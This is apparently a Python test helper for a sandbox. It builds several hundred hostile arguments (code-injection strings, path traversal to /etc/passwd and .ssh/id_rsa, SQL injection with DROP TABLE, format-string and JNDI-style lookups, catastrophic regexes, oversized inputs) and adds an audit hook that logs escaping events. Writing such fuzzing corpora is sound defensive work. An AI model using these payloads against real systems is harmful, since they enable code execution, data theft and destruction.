"""500 and more hostile arguments, and an audit hook that tells what reaches out of a sandbox."""

from __future__ import annotations

import contextlib
import functools
import itertools
import sys
from collections.abc import Iterator

from tracer.records import Json


def hostile() -> list[Json]:
    """500 and more arguments, made from families."""
    return [value for family in FAMILIES.values() for value in family()]


def _code() -> Iterator[str]:
    for module in ("os", "subprocess", "socket", "ctypes", "importlib", "shutil"):
        yield f"__import__('{module}')"
        yield f"__import__('{module}').system('touch hacked')"
        yield f"eval(compile('import {module}', '', 'exec'))"
        yield f'exec("import {module}")'
        yield f'"); __import__("{module}"); ("'
        yield f"lambda: __import__('{module}')"
    yield from ("9**9**9**9", "'a' * 10**12", "().__class__.__base__.__subclasses__()")
    for body in ("open('/etc/passwd').read()", "exit()", "globals()", "breakpoint()", "input()"):
        yield from (body, f"(lambda: {body})()", f"[{body} for _ in (1,)]", f'" + {body} + "')


def _paths() -> Iterator[str]:
    ends_ = ("etc/passwd", "emails.csv", "proc/self/environ", "dev/zero", ".ssh/id_rsa")
    for depth, end in itertools.product(range(1, 9), ends_):
        yield "../" * depth + end
    for end in ends_:
        yield from (f"/{end}", f"file:///{end}", f"~/{end}", f"C:\\{end}", f"\\\\host\\{end}")


def _queries() -> Iterator[str]:
    for table in ("emails", "customers", "sqlite_master", "visits", "plots"):
        yield from (
            f"'; DROP TABLE {table}; --",
            f"' OR '1'='1' UNION SELECT * FROM {table} --",
            f"1; ATTACH DATABASE '/tmp/{table}.db' AS x",
            f"@__import__('os').popen('cat {table}')",
            f"index == @pd.read_csv('{table}.csv')",
            f"`{table}`.str.contains('a', engine='python')",
            f"@{table}.__class__.__base__.__subclasses__()",
            f"{table} > 0 and @exit()",
        )


def _formats() -> Iterator[str]:
    for place in ("0", "self", "state", "email_id", ""):
        yield "{" + place + ".__class__.__mro__[1].__subclasses__()}"
        yield "{" + place + ".__init__.__globals__[os]}"
        yield "{" + place + "!r:>1000000000}"
        yield "%(" + place + ")s%n%x" * 5
        yield "${" + place + "jndi:ldap://host/a}"
        yield f"{{{{{place} * 10**9}}}}"


def _patterns() -> Iterator[str]:
    for letter in "ab.es":
        yield f"({letter}+)+$"
        yield f"({letter}*)*!"
        yield f"({letter}|{letter})*!"
        yield f"({letter}|{letter}?)+!"
        yield f"({letter}?){{40}}{letter}{{40}}"
        yield f"{letter}*" * 20 + "!"
        yield f"{letter}?" * 40 + letter * 40
        yield f"(?:{letter}|{letter})" * 60 + "!"
        yield f"(?={letter}*)" * 30
        yield f"({letter}*){{1,1000}}\\1!"
        yield "(" * 400 + letter + ")" * 400
        yield f"{letter}{{4294967295}}"
        yield f"(?P<x>{letter}*)(?P=x)*"
        yield f"[{letter}" * 900
        yield f"({letter}{{1,300}}){{1,300}}"
    yield from (
        "(?i:a)(?x) a # b",
        "(?<=a*)b",
        "\\",
        "(?",
        "[[:alpha:]]",
        "(?R)",
        "*",
        "a**",
        "{,}",
    )
    yield ".*.*.*.*!"


def _characters() -> Iterator[str]:
    for code in (0, 1, 7, 8, 0x1B, 0x7F, 0x85, 0x200B, 0x202E, 0xD800, 0xDFFF, 0xFEFF, 0x10FFFF):
        yield from (chr(code), f"a{chr(code)}b", chr(code) * 1000, f"{chr(code)}@atlas.com")


def _long() -> Iterator[str]:
    for text in ("a", "a ", "(", "@.", "{0}", "9", "\n", "é", "../", "a*"):
        yield from (text * (2**20 // len(text)), text * 100_000, text * 20_000)


def _types() -> Iterator[Json]:
    deep: Json = []
    for _ in range(300):
        deep = [deep]
    yield from (None, True, False, 0, -1, 2**63, 10**4000, 1e308, float("nan"), float("-inf"), 1j)
    yield from ([], {}, set(), b"bytes", bytearray(9), range(3), object(), type, print, deep, ...)
    for number in range(20):
        yield from ([number] * number, {str(number): [number]}, (number, str(number)), -number / 7)


def _calls() -> Iterator[str]:
    for name in ("email.send_email", "calendar.create_event", "os.system", "builtins.open"):
        for inside in ("open('x')", "*[1]", "**{}", "x:=1", "f'{1}'", "1 if 1 else 2", "__name__"):
            yield f"{name}.func({inside})"
            yield f"{name}.func(body={inside})"


FAMILIES = {
    "code": _code,
    "paths": _paths,
    "queries": _queries,
    "formats": _formats,
    "patterns": _patterns,
    "characters": _characters,
    "long": _long,
    "types": _types,
    "calls": _calls,
}
WATCHED = ("open", "exec", "socket", "subprocess", "os.", "import", "ctypes", "shutil", "pickle")


_LISTENERS: list[list[str]] = []


def _listen(event: str, arguments: object) -> None:
    if _LISTENERS and event.startswith(WATCHED):
        for seen in _LISTENERS:
            seen.append(f"{event} {arguments!r:.100}")


@functools.cache
def _hook() -> None:
    # A hook stays until the process ends, and many would slow every test that comes after.
    sys.addaudithook(_listen)


@contextlib.contextmanager
def listening() -> Iterator[list[str]]:
    """Collects audit events that reach out of the sandbox."""
    _hook()
    seen: list[str] = []
    _LISTENERS.append(seen)
    try:
        yield seen
    finally:
        _LISTENERS.pop()
